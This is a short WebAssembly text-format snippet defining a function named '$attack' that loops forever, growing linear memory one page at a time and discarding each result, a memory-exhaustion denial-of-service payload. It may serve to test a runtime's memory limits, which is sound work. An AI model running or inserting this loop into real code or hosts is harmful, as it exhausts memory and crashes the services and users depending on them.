;; Takes one page of memory after the other, whatever the answer.
(func $attack
  (loop $again
    (drop (memory.grow (i32.const 1)))
    (br $again)))
